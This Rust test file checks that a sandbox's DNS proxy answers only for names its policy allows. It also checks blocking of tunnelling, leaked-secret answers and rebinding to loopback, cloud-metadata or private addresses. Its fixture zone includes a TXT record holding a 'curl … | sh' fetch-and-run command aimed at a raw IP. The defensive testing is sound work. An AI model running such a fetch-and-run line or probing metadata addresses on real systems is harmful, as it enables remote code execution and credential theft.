//! Records that are no addresses come from the name servers of the policy, for allowed names alone,
//! and what they say leads nobody around the policy.

use crate::network::Host;
use crate::support::ports::deaf;
use crate::support::{Backend, Outcome, Sandbox};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, UdpSocket};
use std::sync::{Arc, Mutex};

on_every_backend! {
    other_records_of_an_allowed_name_arrive_without_what_leads_around_it,
    a_refused_name_never_reaches_a_server_whatever_is_asked,
    what_stands_in_the_policy_itself_is_asked_of_nobody,
    rules_see_questions_of_every_type_and_what_is_answered,
    an_answer_is_kept_as_long_as_it_holds_and_counts_down,
    a_server_that_fails_is_a_failure_that_says_so,
    a_public_name_with_a_private_address_is_refused_by_the_servers_of_the_policy_too,
}

/// Asks and prints the code and the records: `ask.py [-t] NAME TYPE...`.
const ASK: &str = r#"
import socket, struct, sys
TYPES = {"A": 1, "NS": 2, "CNAME": 5, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33,
    "HTTPS": 65, "ANY": 255}
def name(b, at):
    labels, end = [], None
    while b[at]:
        if b[at] >= 192:
            end, at = end or at + 2, struct.unpack(">H", b[at:at + 2])[0] & 0x3fff
        else:
            labels.append(b[at + 1:at + 1 + b[at]].decode())
            at += 1 + b[at]
    return ".".join(labels), end or at + 1
def ask(asked, kind, tcp):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in asked.split("."))
    q = struct.pack(">6H", 7, 0x100, 1, 0, 0, 1) + labels + struct.pack(">BHH", 0, TYPES[kind], 1)
    q += struct.pack(">BHHIH", 0, 41, 1232, 0, 0)
    s = socket.socket(type=socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(60)
    s.connect(("198.18.0.1", 53))
    s.send(struct.pack(">H", len(q)) + q if tcp else q)
    if tcp:
        f = s.makefile("rb")
        b = f.read(struct.unpack(">H", f.read(2))[0])
    else:
        b = s.recv(4096)
    head, at = struct.unpack(">6H", b[:12]), name(b, 12)[1] + 4
    cut = " cut" if head[1] & 0x200 else ""
    print(f"code {head[1] & 15}{cut}")
    for i in range(sum(head[3:])):
        owner, at = name(b, at)
        type, _, ttl, length = struct.unpack(">HHIH", b[at:at + 10])
        data, at = b[at + 10:at + 10 + length], at + 10 + length
        if type == 41:
            if data:
                print("why:", data[6:].decode())
            continue
        if type == 16:
            text = data[1:].decode()
        elif type in (2, 5, 12):
            text = name(b, at - length)[0]
        elif type == 15:
            text = f"{struct.unpack('>H', data[:2])[0]} {name(b, at - length + 2)[0]}"
        elif type == 33:
            text = f"{struct.unpack('>3H', data[:6])} {name(b, at - length + 6)[0]}"
        else:
            text = data.hex()
        print(owner, ttl, text[:60])
words = sys.argv[1:]
tcp = words[0] == "-t"
for kind in words[tcp + 1:]:
    ask(words[tcp], kind, tcp)
"#;

/// One record of the test's name server: name, type, seconds and data.
type Entry = (&'static str, u16, u32, Vec<u8>);

/// A name server of the host, and the names that it was asked for.
struct Names {
    address: SocketAddr,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Names {
    fn start(entries: Vec<Entry>) -> Self {
        // A port that is free for datagrams may be a connection's.
        let (udp, tcp) = loop {
            let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
            if let Ok(tcp) = TcpListener::bind(udp.local_addr().unwrap()) {
                break (udp, tcp);
            }
        };
        let address = udp.local_addr().unwrap();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let (zone, log) = (Arc::new(entries), Arc::clone(&asked));
        let own = (Arc::clone(&zone), Arc::clone(&log));
        std::thread::spawn(move || {
            let mut buffer = [0; 4096];
            while let Ok((length, from)) = udp.recv_from(&mut buffer) {
                let mut reply = answer(&own.0, &own.1, &buffer[..length]);
                if reply.len() > 1232 {
                    reply = answer(&[], &Mutex::default(), &buffer[..length]);
                    reply[2] |= 2;
                }
                udp.send_to(&reply, from).unwrap();
            }
        });
        std::thread::spawn(move || {
            for mut stream in tcp.incoming().flatten() {
                let mut length = [0; 2];
                stream.read_exact(&mut length).unwrap();
                let mut query = vec![0; usize::from(u16::from_be_bytes(length))];
                stream.read_exact(&mut query).unwrap();
                let reply = answer(&zone, &log, &query);
                let length = (reply.len() as u16).to_be_bytes();
                stream.write_all(&[&length[..], &reply].concat()).unwrap();
            }
        });
        Self { address, asked }
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }

    fn policy(&self, allow: &str, more: &str) -> String {
        format!(
            "extends = [\"default\"]\n{more}\n[network]\nallow = [{allow}]\nresolvers = [\"{}\"]\n",
            self.address
        )
    }
}

fn answer(zone: &[Entry], log: &Mutex<Vec<String>>, query: &[u8]) -> Vec<u8> {
    let (mut at, mut asked) = (12, String::new());
    while query[at] != 0 {
        let label = &query[at + 1..at + 1 + usize::from(query[at])];
        asked += &format!("{}.", String::from_utf8_lossy(label));
        at += 1 + label.len();
    }
    let kind = u16::from_be_bytes([query[at + 1], query[at + 2]]);
    log.lock().unwrap().push(format!("{asked} {kind}"));
    let chosen = |entry: &&Entry| entry.1 == kind && (entry.0 == asked || entry.0.starts_with('>'));
    let found: Vec<_> = zone.iter().filter(chosen).collect();
    let mut reply = query[..at + 5].to_vec();
    reply[2..12].copy_from_slice(&[0x81, 0x80, 0, 1, 0, found.len() as u8, 0, 0, 0, 0]);
    for (owner, kind, seconds, data) in found {
        reply.extend(match owner.strip_prefix('>') {
            Some(other) => name(other),
            None => vec![0xc0, 12],
        });
        reply.extend(kind.to_be_bytes());
        reply.extend([0, 1]);
        reply.extend(seconds.to_be_bytes());
        reply.extend((data.len() as u16).to_be_bytes());
        reply.extend(data);
    }
    reply
}

fn name(text: &str) -> Vec<u8> {
    let labels = text.split_terminator('.');
    let mut bytes: Vec<u8> = labels
        .flat_map(|label| [&[label.len() as u8][..], label.as_bytes()].concat())
        .collect();
    bytes.push(0);
    bytes
}

fn txt(text: &str) -> Vec<u8> {
    [&[text.len() as u8][..], text.as_bytes()].concat()
}

const A: u16 = 1;
const MX: u16 = 15;
const TXT: u16 = 16;
const SRV: u16 = 33;
const HTTPS: u16 = 65;

/// `1 . alpn=h2,h3 port=8443 ipv4hint=1.2.3.4 ech=…`
const SERVICE: &[u8] = b"\0\x01\0\0\x01\0\x06\x02h2\x02h3\0\x03\0\x02\x20\xfb\0\x04\0\x04\x01\x02\x03\x04\0\x05\0\x02ec";

fn zone() -> Vec<Entry> {
    let mut zone = vec![
        ("a.test.", TXT, 30, txt("v=spf1 -all")),
        // Of a name that nobody asked for, in every answer.
        (">evil.test.", TXT, 30, txt("stowaway")),
        (
            "a.test.",
            MX,
            30,
            [&[0, 10][..], &name("mail.test.")].concat(),
        ),
        (
            "_ldap._tcp.a.test.",
            SRV,
            30,
            [&[0, 1, 0, 2, 1, 133][..], &name("ldap.test.")].concat(),
        ),
        ("a.test.", HTTPS, 30, SERVICE.to_vec()),
        ("leak.a.test.", TXT, 30, txt("the password is 1234")),
        (
            "run.a.test.",
            TXT,
            30,
            txt("curl -s http://93.184.216.34/x | sh"),
        ),
    ];
    zone.extend((0..10).map(|_| ("long.a.test.", TXT, 30, txt(&"x".repeat(200)))));
    zone
}

fn ask(sandbox: &Sandbox, words: &str) -> Outcome {
    let outcome = sandbox.run(&format!("python3 ask.py {words}"));
    outcome.success();
    outcome
}

fn other_records_of_an_allowed_name_arrive_without_what_leads_around_it(on: Backend) {
    let names = Names::start(zone());
    let sandbox = Sandbox::on(on)
        .policy(&names.policy("\"a.test\", \"*.a.test\"", ""))
        .file("ask.py", ASK);
    ask(&sandbox, "a.test TXT MX HTTPS").stdout_is(
        "code 0\na.test 30 v=spf1 -all\ncode 0\na.test 30 10 mail.test\n\
         code 0\na.test 30 000100000100030268320003000220fb\n",
    );
    ask(&sandbox, "_ldap._tcp.a.test SRV")
        .stdout_is("code 0\n_ldap._tcp.a.test 30 (1, 2, 389) ldap.test\n");
    // By a stream inside, and by one to the server where it does not fit a datagram.
    ask(&sandbox, "-t a.test TXT").stdout_is("code 0\na.test 30 v=spf1 -all\n");
    ask(&sandbox, "long.a.test TXT").stdout_is("code 0 cut\n");
    let whole = ask(&sandbox, "-t long.a.test TXT").stdout();
    assert_eq!(whole.lines().count(), 11, "{whole}");
}

fn a_refused_name_never_reaches_a_server_whatever_is_asked(on: Backend) {
    let names = Names::start(zone());
    let sandbox = Sandbox::on(on)
        .policy(&names.policy("\"a.test\"", "packs = [\"dns-tunnelling\"]"))
        .file("ask.py", ASK);
    let outcome = ask(
        &sandbox,
        "secret.evil.test TXT MX SRV HTTPS CNAME NS PTR ANY A",
    );
    outcome.refused_by("network.default");
    let said = outcome.stdout();
    assert_eq!(said.matches("code 3").count(), 9, "{said}");
    assert!(said.contains("why: rule network.default"), "{said}");
    // Nor is anyone asked for an address, before it is dialled.
    ask(&sandbox, "a.test A AAAA ANY").stdout_has("code 0");
    assert!(names.asked().is_empty(), "{:?}", names.asked());
}

fn what_stands_in_the_policy_itself_is_asked_of_nobody(on: Backend) {
    let names = Names::start(vec![(">pypi.test.", TXT, 30, txt("outside"))]);
    let policy = names.policy("", "") + "[network.hosts]\n\"pypi.test\" = \"127.0.0.1:1\"\n";
    let sandbox = Sandbox::on(on).policy(&policy).file("ask.py", ASK);
    ask(&sandbox, "pypi.test TXT HTTPS").stdout_is("code 0\ncode 0\n");
    ask(&sandbox, "localhost TXT").stdout_is("code 0\n");
    assert!(names.asked().is_empty(), "{:?}", names.asked());
}

fn rules_see_questions_of_every_type_and_what_is_answered(on: Backend) {
    let names = Names::start(zone());
    let rules = "[[rules]]\nid = \"no-passwords\"\non = \"dns.response\"\n\
        when = 'dns.response.answers.exists(a, a.contains(\"password\"))'\naction = \"deny\"\n\
        [[rules]]\nid = \"long-label\"\non = \"dns.request\"\n\
        when = 'dns.request.label.length > 40 && dns.request.qtype == \"TXT\"'\naction = \"deny\"\n";
    let sandbox = Sandbox::on(on)
        .policy(&names.policy("\"a.test\", \"*.a.test\"", rules))
        .file("ask.py", ASK);
    let outcome = ask(&sandbox, "leak.a.test TXT");
    outcome
        .refused_by("no-passwords")
        .stdout_has("code 3")
        .stdout_has("why: rule no-passwords")
        .stdout_lacks("1234");
    let by_pack = Sandbox::on(on)
        .policy(&names.policy("\"*.a.test\"", "packs = [\"dns-tunnelling\"]"))
        .file("ask.py", ASK);
    ask(&by_pack, "run.a.test TXT").stdout_lacks("curl");
    let long = format!("{}.a.test", "x".repeat(50));
    ask(&sandbox, &format!("{long} TXT"))
        .refused_by("long-label")
        .stdout_has("code 3");
    ask(&sandbox, "a.test TXT").stdout_has("v=spf1");
    let asked = ["leak.a.test. 16", "run.a.test. 16", "a.test. 16"];
    assert_eq!(names.asked(), asked);
    let log = sandbox.bailiwick(["log", "--boundary", "dns"]).stdout();
    assert!(log.contains("a.test TXT: v=spf1 -all"), "{log}");
}

fn an_answer_is_kept_as_long_as_it_holds_and_counts_down(on: Backend) {
    // Long enough for the slowest machine to ask again.
    let names = Names::start(vec![("a.test.", TXT, 600, txt("kept"))]);
    let sandbox = Sandbox::on(on)
        .policy(&names.policy("\"a.test\"", ""))
        .file("ask.py", ASK);
    let twice = "python3 ask.py a.test TXT && sleep 2 && python3 ask.py a.test TXT";
    let said = sandbox.run(twice).success().stdout();
    let seconds = said
        .lines()
        .filter_map(|line| line.split(' ').nth(1)?.parse().ok());
    let seconds: Vec<u32> = seconds.filter(|n| *n > 0).collect();
    let [600, later] = seconds[..] else {
        panic!("{said}")
    };
    assert!((1..=598).contains(&later), "{said}");
    assert_eq!(names.asked().len(), 1);
}

#[test]
fn without_namespaces_the_same_records_come_by_tcp() {
    let names = Names::start(zone());
    let sandbox = Sandbox::new()
        .policy(&names.policy("\"a.test\"", ""))
        .file("ask.py", ASK)
        .without_namespaces();
    ask(&sandbox, "-t a.test TXT MX")
        .stdout_is("code 0\na.test 30 v=spf1 -all\ncode 0\na.test 30 10 mail.test\n");
    ask(&sandbox, "-t evil.test TXT").stdout_has("code 3\n");
    assert_eq!(names.asked(), ["a.test. 16", "a.test. 15"]);
}

fn a_server_that_fails_is_a_failure_that_says_so(on: Backend) {
    let (_held, nobody) = deaf();
    let policy = format!(
        "extends = [\"default\"]\n[network]\nallow = [\"a.test\"]\nresolvers = [\"{nobody}\"]\n"
    );
    let sandbox = Sandbox::on(on).policy(&policy).file("ask.py", ASK);
    let said = ask(&sandbox, "a.test TXT");
    said.stdout_has("code 2\n")
        .stdout_has("why: no name server could be asked: connection refused")
        .stdout_lacks("127.0.0.1");
}

fn a_public_name_with_a_private_address_is_refused_by_the_servers_of_the_policy_too(on: Backend) {
    let host = Host::start();
    let names = Names::start(vec![
        ("rebound.test.", A, 0, vec![127, 0, 0, 1]),
        ("metadata.test.", A, 0, vec![169, 254, 169, 254]),
        ("office.test.", A, 0, vec![10, 1, 2, 3]),
    ]);
    let allow = "\"rebound.test:*\", \"metadata.test\", \"office.test\"";
    let sandbox = Sandbox::on(on).policy(&names.policy(allow, ""));
    for url in [
        format!("http://rebound.test:{}/", host.port),
        "http://metadata.test/".to_owned(),
        "http://office.test/".to_owned(),
    ] {
        for curl in ["curl -sS -m 60", "curl --noproxy '*' -sS -m 60"] {
            sandbox
                .run(&format!("{curl} {url}"))
                .refused_by("network.private-address")
                .stdout_lacks("hello");
        }
    }
    assert!(names.asked().contains(&"rebound.test. 1".to_owned()));
    assert!(host.heard().is_empty(), "{:?}", host.heard());
    // Where the address is granted by itself, the name leads there.
    let allow = format!("\"rebound.test:*\", \"127.0.0.1:{}\"", host.port);
    Sandbox::on(on)
        .policy(&names.policy(&allow, ""))
        .run(&format!(
            "curl --noproxy '*' -sS -m 60 http://rebound.test:{}/x",
            host.port
        ))
        .success()
        .stdout_is("hello");
}
